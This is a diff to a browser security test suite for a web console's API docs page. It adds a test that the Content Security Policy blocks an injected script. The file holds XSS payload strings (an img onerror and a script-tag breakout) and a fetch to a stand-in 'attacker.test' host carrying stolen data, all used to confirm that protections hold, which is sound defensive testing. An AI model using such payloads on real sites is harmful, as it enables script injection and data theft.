@@ -3,7 +3,7 @@
 import assert from "node:assert/strict";
 import { createServer } from "node:http";
 import { test } from "node:test";
-import { asked, closed, opened, query, run, signedIn, withPage, ADDRESS } from "./page.mjs";
+import { asked, closed, opened, query, run, signedIn, withPage, ADDRESS, KEY } from "./page.mjs";
 
 const IMAGE = '<img src=x onerror="window.attacked=1">';
 const SCRIPT = "</script><script>window.attacked=1</script>";
@@ -87,6 +87,25 @@ test("the browser refuses scripts, styles and HTML that code would add", async (
   const sent = await page.evaluate(() => fetch("https://attacker.test/?stolen").then(() => "sent", () => "refused"));
   assert.equal(sent, "refused");
   await closed(page);
+});
+
+test("the page of the interface sends a request under a policy that lets in no other script", async () => {
+  const page = await opened({ expected: [/Content Security Policy|TrustedHTML|violates/i] });
+  await page.goto(`${ADDRESS}/docs`);
+  await page.getByLabel(/API key/).fill(KEY);
+  await page.locator("details#post_v1_query summary").click();
+  await page.locator("details#post_v1_query").getByRole("button", { name: "Send" }).click();
+  await page.getByText(/^200/).waitFor();
+  await page.evaluate(() => {
+    const script = document.createElement("script");
+    script.src = "/client.js";
+    script.onload = () => (window.attacked = 1);
+    document.body.append(script);
+  }).catch(() => {}); // the address of a script is no string to the browser
+  const cursor = await page.locator("summary").first().evaluate((element) => getComputedStyle(element).cursor);
+  assert.equal(cursor, "pointer");
+  assert.equal(await page.evaluate(() => window.attacked), undefined);
+  await page.context().close();
 });
 
 test("the console cannot be put into a frame, nor be reached through its opener", async () => {
